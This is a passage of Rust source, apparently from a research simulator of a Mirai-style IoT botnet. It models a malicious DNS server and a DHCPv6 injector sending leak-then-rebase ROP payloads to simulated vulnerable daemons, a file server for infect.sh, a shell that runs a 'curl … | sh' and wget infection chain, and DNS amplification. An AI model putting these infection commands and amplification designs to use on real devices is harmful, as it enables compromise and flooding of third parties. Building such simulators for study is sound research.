        let Some(leak) = msg.option(OPTION_LEAK_VALUE) else {
            return;
        };
        let Ok(addr_bytes) = <[u8; 8]>::try_from(leak.data.as_slice()) else {
            return;
        };
        self.leaks_received += 1;
        let src = packet.src;
        if self.exploited.contains(&src.ip()) {
            return;
        }
        let leaked = u64::from_le_bytes(addr_bytes);
        let tid = self.next_transaction;
        self.next_transaction += 1;
        if let Ok(payload) = self.forge.rebased_payload(leaked) {
            self.exploits_sent += 1;
            self.exploited.insert(src.ip());
            let exploit = Dhcpv6Message::new(Dhcpv6Kind::RelayForw, tid)
                .with_option(Dhcpv6Option::new(OPTION_RELAY_MSG, payload));
            self.send(ctx, SocketAddr::new(src.ip(), DHCPV6_SERVER_PORT), exploit);
        }
    }
}
