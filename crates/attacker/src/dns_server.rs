//! The malicious DNS server exploiting Connman-like Devs.
//!
//! Devs running `connmand` resolve against this server (the paper manually
//! points Devs at it, acknowledging real attackers would hijack DNS). Under
//! the default leak+rebase strategy the exchange per device is:
//!
//! 1. Dev sends a normal DNS query → server answers with a leak-probe
//!    record.
//! 2. The daemon's leak primitive fires and the Dev emits a
//!    `leak-<addr>.probe` query → server computes the ASLR slide, builds a
//!    rebased ROP chain, and answers with the exploit record.
//! 3. The chain runs `execlp("sh","-c","curl -s …/infect.sh | sh")`.

use crate::exploit::ExploitForge;
use firmware::{parse_leak_query_name, RTYPE_LEAK_PROBE};
use malware::AMP_QUERY_PREFIX;
use netsim::{Application, Ctx, ForkMap, Packet, Payload};
use protocols::{DnsMessage, DnsRecord, DNS_PORT};
use std::collections::HashSet;
use std::net::IpAddr;

/// Answer bytes in one amplification response: with the ~38-byte query
/// this reproduces the ~25x gain of real open-resolver DNS amplification.
pub const AMP_RESPONSE_BYTES: usize = 1024;

/// The malicious DNS server application.
#[derive(Debug)]
pub struct MaliciousDnsServer {
    forge: ExploitForge,
    /// Devices already sent a final exploit (avoid endless re-exploitation).
    exploited: HashSet<IpAddr>,
    /// Normal queries answered with probes.
    pub probes_sent: u64,
    /// Leak replies received.
    pub leaks_received: u64,
    /// Exploit payloads sent.
    pub exploits_sent: u64,
    /// Amplification answers reflected at forged query sources.
    pub amp_responses: u64,
}

impl MaliciousDnsServer {
    /// Creates the server around an exploit forge.
    pub fn new(forge: ExploitForge) -> Self {
        MaliciousDnsServer {
            forge,
            exploited: HashSet::new(),
            probes_sent: 0,
            leaks_received: 0,
            exploits_sent: 0,
            amp_responses: 0,
        }
    }

    /// Clears the exploited mark for `ip`, so the next query restarts the
    /// exploit exchange. The attacker operator calls this when a device it
    /// believed compromised never registered with the C&C (e.g. the exploit
    /// packet was lost, or the device churned away mid-infection).
    pub fn forget(&mut self, ip: IpAddr) {
        self.exploited.remove(&ip);
    }

    /// Devices currently marked as exploited.
    pub fn exploited_count(&self) -> usize {
        self.exploited.len()
    }

    fn respond(&self, ctx: &mut Ctx<'_>, to: std::net::SocketAddr, msg: DnsMessage) {
        let bytes = msg.wire_size();
        let _ = ctx.udp_send(DNS_PORT, to, Payload::new(msg), bytes);
    }

    fn exploit_record(&self, payload: Vec<u8>) -> DnsRecord {
        // TXT-style record smuggling the overflow bytes.
        DnsRecord::raw("cdn.update.local", 16, payload)
    }
}

impl Application for MaliciousDnsServer {
    fn name(&self) -> &str {
        "malicious-dns"
    }

    fn fork(&self, _map: &ForkMap) -> Option<Box<dyn Application>> {
        Some(Box::new(MaliciousDnsServer {
            forge: self.forge.clone(),
            exploited: self.exploited.clone(),
            probes_sent: self.probes_sent,
            leaks_received: self.leaks_received,
            exploits_sent: self.exploits_sent,
            amp_responses: self.amp_responses,
        }))
    }

    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.udp_bind(DNS_PORT)
            .expect("DNS port is free on the attacker node");
    }

    fn on_packet(&mut self, ctx: &mut Ctx<'_>, packet: &Packet) {
        let Some(DnsMessage::Query { id, name }) = packet.payload.get::<DnsMessage>() else {
            return;
        };
        let (id, name) = (*id, name.clone());
        let src = packet.src;

        if name.starts_with(AMP_QUERY_PREFIX) {
            // Amplification: the server doubles as an open resolver. The
            // query's source is forged to the victim, so this padded
            // answer — ~25x the query size — lands on the victim, not on
            // the bot that asked.
            self.amp_responses += 1;
            let answer = DnsMessage::Response {
                id,
                name: name.clone(),
                answers: vec![DnsRecord::raw(name, 16, vec![0u8; AMP_RESPONSE_BYTES])],
            };
            self.respond(ctx, src, answer);
            return;
        }

        if let Some(leaked) = parse_leak_query_name(&name) {
            // Stage 2: rebase and fire.
            self.leaks_received += 1;
            if self.exploited.contains(&src.ip()) {
                return;
            }
            if let Ok(payload) = self.forge.rebased_payload(leaked) {
                self.exploits_sent += 1;
                self.exploited.insert(src.ip());
                let answer = DnsMessage::Response {
                    id,
                    name,
                    answers: vec![self.exploit_record(payload)],
                };
                self.respond(ctx, src, answer);
            }
            return;
        }

        // Stage 1: a normal query from the daemon's periodic resolution.
        if self.exploited.contains(&src.ip()) {
            // Already compromised: answer honestly so the device keeps
            // functioning (bots must stay online to flood).
            let answer = DnsMessage::Response {
                id,
                name: name.clone(),
                answers: vec![DnsRecord::a(name, [93, 184, 216, 34])],
            };
            self.respond(ctx, src, answer);
            return;
        }
        let answers = if self.forge.needs_leak() {
            self.probes_sent += 1;
            vec![DnsRecord::raw("probe.local", RTYPE_LEAK_PROBE, Vec::new())]
        } else {
            // One-shot strategies fire immediately.
            match self.forge.initial_payload() {
                Ok(payload) => {
                    self.exploits_sent += 1;
                    self.exploited.insert(src.ip());
                    vec![self.exploit_record(payload)]
                }
                Err(_) => return,
            }
        };
        self.respond(ctx, src, DnsMessage::Response { id, name, answers });
    }
}
