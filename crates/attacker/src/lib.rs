//! # attacker — the Attacker component's tooling
//!
//! The exploit-and-infection side of the paper's Attacker node (§II-A,
//! §III-A):
//!
//! * [`ExploitForge`] — ROP payload construction under three strategies
//!   (leak+rebase, static chain, naive code injection);
//! * [`MaliciousDnsServer`] — exploits Connman-like Devs through DNS
//!   responses (CVE-2017-12865 path);
//! * [`Dhcpv6Injector`] — exploits Dnsmasq-like Devs through multicast
//!   DHCPv6 RELAY-FORW messages (CVE-2017-14493 path);
//! * [`FileServer`] — the Apache-role static HTTP server hosting the
//!   infection script and per-architecture bot binaries.
//!
//! The C&C server itself lives in the [`malware`] crate (it ships with the
//! Mirai source); the full Attacker node is assembled by `ddosim-core`.

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod dhcp6;
pub mod dns_server;
pub mod exploit;
pub mod fileserver;

pub use dhcp6::Dhcpv6Injector;
pub use dns_server::{MaliciousDnsServer, AMP_RESPONSE_BYTES};
pub use exploit::{ExploitForge, ExploitStrategy};
pub use fileserver::FileServer;
