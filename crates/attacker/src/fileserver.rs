//! The Attacker's file server (the paper installs Apache for this role):
//! serves the infection shell script and the per-architecture bot binaries
//! over HTTP.

use firmware::ServedFile;
use netsim::{Application, Ctx, ForkMap, Payload, TcpEvent};
use protocols::{HttpRequest, HttpResponse, HTTP_PORT};
use std::collections::HashMap;

/// A static HTTP file server.
#[derive(Debug, Default)]
pub struct FileServer {
    files: HashMap<String, ServedFile>,
    /// Requests served with 200.
    pub hits: u64,
    /// Requests answered 404.
    pub misses: u64,
}

impl FileServer {
    /// Creates a server hosting `files` (keyed by their published paths).
    pub fn new(files: Vec<ServedFile>) -> Self {
        FileServer {
            files: files.into_iter().map(|f| (f.path.clone(), f)).collect(),
            hits: 0,
            misses: 0,
        }
    }

    /// Adds a file after construction.
    pub fn publish(&mut self, file: ServedFile) {
        self.files.insert(file.path.clone(), file);
    }

    /// Number of hosted files.
    pub fn file_count(&self) -> usize {
        self.files.len()
    }
}

impl Application for FileServer {
    fn name(&self) -> &str {
        "apache"
    }

    fn fork(&self, _map: &ForkMap) -> Option<Box<dyn Application>> {
        // ServedFile entries share their ProgramLauncher through an Arc;
        // launchers capture only plain configuration, so sharing is safe.
        Some(Box::new(FileServer {
            files: self.files.clone(),
            hits: self.hits,
            misses: self.misses,
        }))
    }

    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.tcp_listen(HTTP_PORT)
            .expect("HTTP port is free on the attacker node");
    }

    fn on_tcp(&mut self, ctx: &mut Ctx<'_>, event: TcpEvent) {
        if let TcpEvent::Data { conn, payload, .. } = event {
            let Some(req) = payload.get::<HttpRequest>() else {
                return;
            };
            let resp = match self.files.get(&req.path) {
                Some(file) => {
                    self.hits += 1;
                    let bytes = u32::try_from(file.entry.size_bytes).unwrap_or(u32::MAX);
                    HttpResponse::ok(Payload::new(file.clone()), bytes)
                }
                None => {
                    self.misses += 1;
                    HttpResponse::not_found()
                }
            };
            let bytes = resp.wire_size();
            let _ = ctx.tcp_send(conn, Payload::new(resp), bytes);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use firmware::{FileEntry, FileKind, ShellScript};

    fn script_file(path: &str) -> ServedFile {
        let s = ShellScript::new(["echo hi"]);
        let size = s.byte_size();
        ServedFile {
            path: path.to_owned(),
            entry: FileEntry {
                kind: FileKind::Script(s),
                size_bytes: size,
                executable: false,
            },
        }
    }

    #[test]
    fn files_are_indexed_by_path() {
        let mut fs = FileServer::new(vec![script_file("/infect.sh")]);
        assert_eq!(fs.file_count(), 1);
        fs.publish(script_file("/other.sh"));
        assert_eq!(fs.file_count(), 2);
    }
}
