//! The shell interpreter: executes the infection chain's commands.
//!
//! The exploit payload runs `sh -c "curl -s <url> | sh"`; the downloaded
//! script then fetches the architecture-specific bot binary with `wget`,
//! `chmod +x`-es it, executes it, and removes it. [`ShellJob`] is the
//! application that interprets those commands against the container's
//! filesystem, process table, and the simulated network.

use crate::container::{ContainerEvent, ContainerHandle};
use crate::fs::{FileKind, LaunchEnv, ServedFile, ShellScript};
use crate::proc::Pid;
use netsim::{Application, Category, ConnId, Ctx, ForkClone, ForkMap, Payload, TcpEvent};
use protocols::{HttpRequest, HttpResponse, HTTP_PORT};
use std::collections::VecDeque;
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

/// Overall wall-clock budget for one shell job.
const JOB_TIMEOUT: Duration = Duration::from_secs(60);
const TIMER_TIMEOUT: u64 = 1;

/// Parses `http://host[:port]/path` into (server, path). Hosts are IP
/// literals (v4, or v6 in brackets), as in the paper's lab network.
pub fn parse_url(url: &str) -> Option<(SocketAddr, String)> {
    let rest = url.strip_prefix("http://")?;
    let (authority, path) = match rest.find('/') {
        Some(i) => (&rest[..i], rest[i..].to_owned()),
        None => (rest, "/".to_owned()),
    };
    let (host, port) = if let Some(h) = authority.strip_prefix('[') {
        // [v6]:port or [v6]
        let close = h.find(']')?;
        let addr = h[..close].parse::<IpAddr>().ok()?;
        let port = match h[close + 1..].strip_prefix(':') {
            Some(p) => p.parse().ok()?,
            None => HTTP_PORT,
        };
        (addr, port)
    } else {
        match authority.rsplit_once(':') {
            Some((h, p)) => (h.parse().ok()?, p.parse().ok()?),
            None => (authority.parse().ok()?, HTTP_PORT),
        }
    };
    Some((SocketAddr::new(host, port), path))
}

#[derive(Debug, Clone)]
enum HttpTarget {
    PipeToSh,
    SaveTo(String),
}

#[derive(Debug, Clone)]
enum JobState {
    Idle,
    Http { conn: ConnId, target: HttpTarget },
    Done,
}

/// A running shell: a queue of command lines plus in-flight network state.
pub struct ShellJob {
    container: ContainerHandle,
    queue: VecDeque<String>,
    state: JobState,
    pid: Option<Pid>,
    /// Path of the in-flight HTTP request (set at connect, consumed on
    /// `Connected`).
    pending_path: Option<String>,
}

impl std::fmt::Debug for ShellJob {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ShellJob")
            .field("queued", &self.queue.len())
            .field("state", &self.state)
            .finish()
    }
}

impl ShellJob {
    /// Creates a job that will run a single command line (the exploit's
    /// `sh -c <command>`).
    pub fn command(container: ContainerHandle, command: impl Into<String>) -> Self {
        ShellJob {
            container,
            queue: VecDeque::from([command.into()]),
            state: JobState::Idle,
            pid: None,
            pending_path: None,
        }
    }

    /// Creates a job that runs a script's lines.
    pub fn script(container: ContainerHandle, script: &ShellScript) -> Self {
        ShellJob {
            container,
            queue: script.lines().iter().cloned().collect(),
            state: JobState::Idle,
            pid: None,
            pending_path: None,
        }
    }

    fn substitute(&self, line: &str) -> String {
        let arch = self.container.arch().suffix();
        line.replace("$ARCH", arch).replace("${ARCH}", arch)
    }

    fn finish(&mut self, ctx: &mut Ctx<'_>) {
        if let JobState::Http { conn, .. } = &self.state {
            ctx.tcp_close(*conn);
        }
        self.state = JobState::Done;
        if let Some(pid) = self.pid.take() {
            self.container.state_mut().procs.kill(pid);
        }
        ctx.exit();
    }

    fn have_command(&self, ctx: &mut Ctx<'_>, cmd: &str) -> bool {
        if self.container.state().commands.contains(cmd) {
            true
        } else {
            self.container.log(ContainerEvent::CommandMissing {
                time: ctx.now(),
                command: cmd.to_owned(),
            });
            false
        }
    }

    fn start_http(&mut self, ctx: &mut Ctx<'_>, url: &str, target: HttpTarget) -> bool {
        let Some((server, path)) = parse_url(url) else {
            return false;
        };
        let Ok(conn) = ctx.tcp_connect(server) else {
            return false;
        };
        // Stash the path in the target; the request is sent on Connected.
        self.state = JobState::Http { conn, target };
        self.pending_path = Some(path);
        true
    }

    fn proceed(&mut self, ctx: &mut Ctx<'_>) {
        loop {
            if matches!(self.state, JobState::Http { .. } | JobState::Done) {
                return;
            }
            let Some(raw) = self.queue.pop_front() else {
                self.finish(ctx);
                return;
            };
            let line = self.substitute(raw.trim());
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            self.container.log(ContainerEvent::CommandRun {
                time: ctx.now(),
                command: line.clone(),
            });
            ctx.record_event(Category::ShellExec, || format!("$ {line}"));
            if !self.run_line(ctx, &line) {
                self.finish(ctx);
                return;
            }
        }
    }

    /// Runs one command line; returns false to abort the job.
    fn run_line(&mut self, ctx: &mut Ctx<'_>, line: &str) -> bool {
        let tokens: Vec<&str> = line.split_whitespace().collect();
        let Some(&cmd) = tokens.first() else {
            return true;
        };
        match cmd {
            "curl" => {
                if !self.have_command(ctx, "curl") {
                    return false;
                }
                // `curl -s URL | sh`  or  `curl -s URL -o PATH`
                let url = tokens.iter().find(|t| t.starts_with("http://"));
                let Some(url) = url else { return false };
                if let Some(i) = tokens.iter().position(|t| *t == "-o") {
                    let Some(path) = tokens.get(i + 1) else {
                        return false;
                    };
                    self.start_http(ctx, url, HttpTarget::SaveTo((*path).to_owned()))
                } else if tokens.windows(2).any(|w| w == ["|", "sh"]) {
                    if !self.have_command(ctx, "sh") {
                        return false;
                    }
                    self.start_http(ctx, url, HttpTarget::PipeToSh)
                } else {
                    self.start_http(ctx, url, HttpTarget::PipeToSh)
                }
            }
            "wget" => {
                if !self.have_command(ctx, "wget") {
                    return false;
                }
                let url = tokens.iter().find(|t| t.starts_with("http://"));
                let Some(url) = url else { return false };
                let path = tokens
                    .iter()
                    .position(|t| *t == "-O")
                    .and_then(|i| tokens.get(i + 1))
                    .map(|p| (*p).to_owned());
                let Some(path) = path else { return false };
                self.start_http(ctx, url, HttpTarget::SaveTo(path))
            }
            "chmod" => {
                if !self.have_command(ctx, "chmod") {
                    return false;
                }
                let Some(path) = tokens.last().filter(|t| !t.starts_with('+')) else {
                    return false;
                };
                self.container.state_mut().fs.chmod_exec(path).is_ok()
            }
            "rm" => {
                if !self.have_command(ctx, "rm") {
                    return false;
                }
                if let Some(path) = tokens.iter().skip(1).find(|t| !t.starts_with('-')) {
                    self.container.state_mut().fs.remove(path);
                }
                true
            }
            "cd" | "export" | "ps" | "sleep" | "echo" => true,
            _ if cmd.starts_with('/') || cmd.starts_with("./") => self.exec_file(ctx, cmd),
            _ => {
                // Unknown command: record and abort (busybox would print
                // "not found").
                self.container.log(ContainerEvent::CommandMissing {
                    time: ctx.now(),
                    command: cmd.to_owned(),
                });
                false
            }
        }
    }

    fn exec_file(&mut self, ctx: &mut Ctx<'_>, path: &str) -> bool {
        let path = path.strip_prefix("./").unwrap_or(path);
        let resolved = {
            let state = self.container.state();
            match state.fs.resolve_executable(path) {
                Ok(entry) => entry.kind.clone(),
                Err(_) => return false,
            }
        };
        match resolved {
            FileKind::Script(script) => {
                for line in script.lines().iter().rev() {
                    self.queue.push_front(line.clone());
                }
                true
            }
            FileKind::Executable { arch, launcher } => {
                if arch != self.container.arch() {
                    // Exec format error: wrong architecture binary.
                    return false;
                }
                let basename = path.rsplit('/').next().unwrap_or(path).to_owned();
                let pid = self.container.register_proc(basename, None, vec![]);
                let env = LaunchEnv {
                    exec_path: path.to_owned(),
                    host_arch: arch,
                    pid,
                    container: self.container.clone(),
                };
                let app = launcher(ctx, env);
                let id = ctx.spawn_app(ctx.node_id(), app);
                self.container.state_mut().procs.set_app(pid, id);
                self.container.log(ContainerEvent::Executed {
                    time: ctx.now(),
                    path: path.to_owned(),
                });
                ctx.record_event(Category::CurlShStage, || {
                    format!("stage3: exec {path} ({})", arch.suffix())
                });
                true
            }
            FileKind::Data => false,
        }
    }

    fn handle_response(&mut self, ctx: &mut Ctx<'_>, resp: &HttpResponse) {
        let JobState::Http { conn, target } = &self.state else {
            return;
        };
        let conn = *conn;
        let target = target.clone();
        ctx.tcp_close(conn);
        self.state = JobState::Idle;
        if !resp.is_ok() {
            self.finish(ctx);
            return;
        }
        let Some(file) = resp.body.get::<ServedFile>() else {
            self.finish(ctx);
            return;
        };
        match target {
            HttpTarget::PipeToSh => {
                let FileKind::Script(script) = &file.entry.kind else {
                    self.finish(ctx);
                    return;
                };
                ctx.record_event(Category::CurlShStage, || {
                    format!("stage1: piped script to sh ({} lines)", script.lines().len())
                });
                for line in script.lines().iter().rev() {
                    self.queue.push_front(line.clone());
                }
            }
            HttpTarget::SaveTo(path) => {
                let mut entry = file.entry.clone();
                entry.executable = false; // downloads are not executable yet
                let bytes = entry.size_bytes;
                self.container.state_mut().fs.write(path.clone(), entry);
                ctx.record_event(Category::CurlShStage, || {
                    format!("stage2: downloaded {path} ({bytes}B)")
                });
                self.container.log(ContainerEvent::Downloaded {
                    time: ctx.now(),
                    path,
                    bytes,
                });
            }
        }
        self.proceed(ctx);
    }

    fn take_pending_path(&mut self) -> Option<String> {
        self.pending_path.take()
    }
}

impl Application for ShellJob {
    fn name(&self) -> &str {
        "sh"
    }

    fn fork(&self, map: &ForkMap) -> Option<Box<dyn Application>> {
        Some(Box::new(ShellJob {
            container: self.container.fork_clone(map),
            queue: self.queue.clone(),
            state: self.state.clone(),
            pid: self.pid,
            pending_path: self.pending_path.clone(),
        }))
    }

    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.pid = Some(
            self.container
                .state_mut()
                .procs
                .register("sh", Some(ctx.app_id()), vec![]),
        );
        ctx.set_timer(JOB_TIMEOUT, TIMER_TIMEOUT);
        self.proceed(ctx);
    }

    fn on_tcp(&mut self, ctx: &mut Ctx<'_>, event: TcpEvent) {
        match event {
            TcpEvent::Connected { conn } => {
                if let JobState::Http { conn: c, .. } = &self.state {
                    if *c == conn {
                        if let Some(path) = self.take_pending_path() {
                            let req = HttpRequest::get(path);
                            let bytes = req.wire_size();
                            let _ = ctx.tcp_send(conn, Payload::new(req), bytes);
                        }
                    }
                }
            }
            TcpEvent::Data { conn, payload, .. } => {
                if let JobState::Http { conn: c, .. } = &self.state {
                    if *c == conn {
                        if let Some(resp) = payload.get::<HttpResponse>() {
                            let resp = resp.clone();
                            self.handle_response(ctx, &resp);
                        }
                    }
                }
            }
            TcpEvent::ConnectFailed { conn } | TcpEvent::Closed { conn } => {
                if let JobState::Http { conn: c, .. } = &self.state {
                    if *c == conn {
                        self.finish(ctx);
                    }
                }
            }
            TcpEvent::Incoming { .. } => {}
        }
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        if token == TIMER_TIMEOUT && !matches!(self.state, JobState::Done) {
            self.finish(ctx);
        }
    }

    fn on_node_down(&mut self, ctx: &mut Ctx<'_>) {
        // The device lost power mid-infection: the job dies.
        self.finish(ctx);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_url_v4_default_port() {
        let (sa, path) = parse_url("http://10.0.0.2/infect.sh").expect("parses");
        assert_eq!(sa, "10.0.0.2:80".parse().expect("sockaddr"));
        assert_eq!(path, "/infect.sh");
    }

    #[test]
    fn parse_url_v4_explicit_port() {
        let (sa, path) = parse_url("http://10.0.0.2:8080/a/b").expect("parses");
        assert_eq!(sa.port(), 8080);
        assert_eq!(path, "/a/b");
    }

    #[test]
    fn parse_url_v6() {
        let (sa, path) = parse_url("http://[fd00::2]/bins/mirai.x86").expect("parses");
        assert!(sa.ip().is_ipv6());
        assert_eq!(sa.port(), 80);
        assert_eq!(path, "/bins/mirai.x86");
        let (sa, _) = parse_url("http://[fd00::2]:81/x").expect("parses");
        assert_eq!(sa.port(), 81);
    }

    #[test]
    fn parse_url_rejects_garbage() {
        assert!(parse_url("ftp://10.0.0.2/x").is_none());
        assert!(parse_url("http://not-an-ip/x").is_none());
    }

    #[test]
    fn parse_url_bare_host() {
        let (sa, path) = parse_url("http://10.0.0.9").expect("parses");
        assert_eq!(sa.port(), 80);
        assert_eq!(path, "/");
    }
}
