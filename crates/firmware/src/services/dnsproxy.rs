//! The Dnsmasq-like DNS/DHCP daemon (`dnsmasq`).

use super::{ServiceCore, OPTION_LEAK_PROBE, OPTION_LEAK_VALUE};
use netsim::packet::all_dhcp_agents_v6;
use netsim::{Application, Ctx, ForkMap, Packet, Payload};
use protocols::{Dhcpv6Kind, Dhcpv6Message, Dhcpv6Option, DHCPV6_SERVER_PORT, OPTION_RELAY_MSG};

const TIMER_RESTART: u64 = 21;

/// The Dnsmasq-like daemon: listens on the DHCPv6 server port, joins the
/// `ff02::1:2` multicast group, and parses RELAY-FORW options through the
/// vulnerable copy path.
///
/// Leak probes (option [`OPTION_LEAK_PROBE`]) are answered with a unicast
/// ADVERTISE carrying the leaked address — the attacker then sends a
/// per-device rebased exploit.
#[derive(Debug)]
pub struct DnsProxyDaemon {
    core: ServiceCore,
    /// RELAY-FORW messages seen (telemetry).
    pub relay_messages_seen: u64,
}

impl DnsProxyDaemon {
    /// Creates the daemon.
    pub fn new(core: ServiceCore) -> Self {
        DnsProxyDaemon {
            core,
            relay_messages_seen: 0,
        }
    }

    /// Telemetry access to the service core.
    pub fn core(&self) -> &ServiceCore {
        &self.core
    }
}

impl Application for DnsProxyDaemon {
    fn name(&self) -> &str {
        "dnsmasq"
    }

    fn fork(&self, map: &ForkMap) -> Option<Box<dyn Application>> {
        Some(Box::new(DnsProxyDaemon {
            core: self.core.fork(map),
            relay_messages_seen: self.relay_messages_seen,
        }))
    }

    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.core
            .container()
            .register_proc("dnsmasq", Some(ctx.app_id()), vec![DHCPV6_SERVER_PORT]);
        let _ = ctx.udp_bind(DHCPV6_SERVER_PORT);
        ctx.join_multicast(all_dhcp_agents_v6());
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        if token == TIMER_RESTART {
            self.core.restart(ctx);
        }
    }

    fn on_packet(&mut self, ctx: &mut Ctx<'_>, packet: &Packet) {
        let Some(msg) = packet.payload.get::<Dhcpv6Message>() else {
            return;
        };
        if msg.kind != Dhcpv6Kind::RelayForw {
            return;
        }
        self.relay_messages_seen += 1;
        let transaction_id = msg.transaction_id;
        let probe = msg.option(OPTION_LEAK_PROBE).is_some();
        let relay_data = msg.option(OPTION_RELAY_MSG).map(|o| o.data.clone());
        if probe {
            if let Some(addr) = self.core.leak() {
                let reply = Dhcpv6Message::new(Dhcpv6Kind::Advertise, transaction_id)
                    .with_option(Dhcpv6Option::new(
                        OPTION_LEAK_VALUE,
                        addr.to_le_bytes().to_vec(),
                    ));
                let bytes = reply.wire_size();
                let _ = ctx.udp_send(
                    DHCPV6_SERVER_PORT,
                    packet.src,
                    Payload::new(reply),
                    bytes,
                );
            }
        }
        if let Some(data) = relay_data {
            self.core.deliver(ctx, &data, TIMER_RESTART);
        }
    }
}
