//! The vulnerable network daemons running inside Devs.
//!
//! [`NetMgrDaemon`] models Connman's DNS proxy (CVE-2017-12865 analogue):
//! it periodically queries its configured DNS server and parses responses
//! through an unchecked stack-buffer copy. [`DnsProxyDaemon`] models
//! Dnsmasq's DHCPv6 handling (CVE-2017-14493 analogue): it joins the
//! All_DHCP_Relay_Agents_and_Servers IPv6 multicast group and parses
//! RELAY-FORW options through the same kind of copy.
//!
//! Both daemons expose the info-leak primitive their
//! [`BinaryImage`] declares, enabling the attacker's
//! two-stage leak-then-rebase exploit against ASLR devices.
//!
//! [`BinaryImage`]: tinyvm::BinaryImage

mod dnsproxy;
mod netmgr;

pub use dnsproxy::DnsProxyDaemon;
pub use netmgr::NetMgrDaemon;

use crate::container::{ContainerEvent, ContainerHandle};
use crate::shell::ShellJob;
use netsim::Ctx;
use rand::Rng;
use std::sync::Arc;
use std::time::Duration;
use tinyvm::{BinaryImage, DeliveryOutcome, Protections, VulnProcess};

/// DNS record type the malicious server uses to trigger the leak primitive.
pub const RTYPE_LEAK_PROBE: u16 = 0xFFA0;
/// DHCPv6 option code carrying a leak probe.
pub const OPTION_LEAK_PROBE: u16 = 0xFF01;
/// DHCPv6 option code carrying the leaked address in a reply.
pub const OPTION_LEAK_VALUE: u16 = 0xFF02;

/// Formats the DNS query name a Connman-like daemon emits when its leak
/// primitive fires.
pub fn leak_query_name(addr: u64) -> String {
    format!("leak-{addr:016x}.probe")
}

/// Parses a leak query name back into the leaked address.
pub fn parse_leak_query_name(name: &str) -> Option<u64> {
    let hex = name.strip_prefix("leak-")?.strip_suffix(".probe")?;
    u64::from_str_radix(hex, 16).ok()
}

/// Shared state and behaviour of a vulnerable daemon: the running
/// [`VulnProcess`], crash/restart supervision, and outcome accounting.
#[derive(Debug)]
pub struct ServiceCore {
    container: ContainerHandle,
    process: VulnProcess,
    daemon: String,
    restart_delay: Duration,
    /// Exploit payloads delivered to the copy path.
    pub payloads_received: u64,
    /// Successful command executions.
    pub execs: u64,
    /// Crashes (failed exploits).
    pub crashes: u64,
    /// Exploits blocked by memory defenses.
    pub blocked: u64,
}

impl ServiceCore {
    /// Creates the core for `daemon` running `image` under `protections`.
    pub fn new<R: Rng + ?Sized>(
        container: ContainerHandle,
        image: Arc<BinaryImage>,
        protections: Protections,
        daemon: impl Into<String>,
        rng: &mut R,
    ) -> Self {
        ServiceCore {
            container,
            process: VulnProcess::start(image, protections, rng),
            daemon: daemon.into(),
            restart_delay: Duration::from_secs(3),
            payloads_received: 0,
            execs: 0,
            crashes: 0,
            blocked: 0,
        }
    }

    /// The container this daemon runs in.
    pub fn container(&self) -> &ContainerHandle {
        &self.container
    }

    /// Deep-copies the core into a forked world: the [`VulnProcess`] and
    /// counters clone plainly, the container handle translates through
    /// `map`.
    pub fn fork(&self, map: &netsim::ForkMap) -> ServiceCore {
        ServiceCore {
            container: netsim::ForkClone::fork_clone(&self.container, map),
            process: self.process.clone(),
            daemon: self.daemon.clone(),
            restart_delay: self.restart_delay,
            payloads_received: self.payloads_received,
            execs: self.execs,
            crashes: self.crashes,
            blocked: self.blocked,
        }
    }

    /// The underlying vulnerable process.
    pub fn process(&self) -> &VulnProcess {
        &self.process
    }

    /// Answers a leak probe.
    pub fn leak(&self) -> Option<u64> {
        self.process.leak_probe()
    }

    /// Feeds network input into the vulnerable copy path, handling all four
    /// outcomes: spawns the attacker's shell on success, schedules a
    /// supervisor restart (timer `restart_token`) on crash, and logs
    /// blocked exploits.
    pub fn deliver(&mut self, ctx: &mut Ctx<'_>, data: &[u8], restart_token: u64) {
        self.payloads_received += 1;
        match self.process.deliver_input(data) {
            DeliveryOutcome::Handled | DeliveryOutcome::Dead => {}
            DeliveryOutcome::Blocked(_) => {
                self.blocked += 1;
                self.container.log(ContainerEvent::ExploitBlocked {
                    time: ctx.now(),
                    daemon: self.daemon.clone(),
                });
            }
            DeliveryOutcome::Crashed(_) => {
                self.crashes += 1;
                self.container.log(ContainerEvent::DaemonCrashed {
                    time: ctx.now(),
                    daemon: self.daemon.clone(),
                });
                ctx.set_timer(self.restart_delay, restart_token);
            }
            DeliveryOutcome::Exec(cmd) => {
                self.execs += 1;
                let job = ShellJob::command(self.container.clone(), cmd);
                let node = ctx.node_id();
                ctx.spawn_app(node, Box::new(job));
            }
        }
    }

    /// Supervisor restart after a crash.
    pub fn restart(&mut self, ctx: &mut Ctx<'_>) {
        self.process.restart(ctx.rng());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn leak_query_name_roundtrip() {
        let addr = 0x5555_5555_7000_11a0u64;
        let name = leak_query_name(addr);
        assert_eq!(parse_leak_query_name(&name), Some(addr));
    }

    #[test]
    fn parse_leak_rejects_other_names() {
        assert_eq!(parse_leak_query_name("pool.ntp.org"), None);
        assert_eq!(parse_leak_query_name("leak-zz.probe"), None);
        assert_eq!(parse_leak_query_name("leak-12"), None);
    }
}
