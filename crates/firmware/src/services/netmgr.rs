//! The Connman-like network manager daemon (`connmand`).

use super::{leak_query_name, ServiceCore, RTYPE_LEAK_PROBE};
use netsim::{Application, Ctx, ForkMap, Packet, Payload};
use protocols::DnsMessage;
use rand::Rng;
use std::net::SocketAddr;
use std::time::Duration;

const TIMER_QUERY: u64 = 10;
const TIMER_RESTART: u64 = 11;

/// The Connman-like daemon: a DNS client whose response parser overflows.
///
/// The paper configures Devs to use the Attacker's malicious DNS server
/// (§V-C acknowledges this as a simplification of DNS hijacking); queries
/// flow every few seconds, and each response's records pass through the
/// vulnerable stack-buffer copy.
#[derive(Debug)]
pub struct NetMgrDaemon {
    core: ServiceCore,
    dns_server: SocketAddr,
    query_interval: Duration,
    local_port: u16,
    next_id: u16,
    /// DNS queries sent (telemetry).
    pub queries_sent: u64,
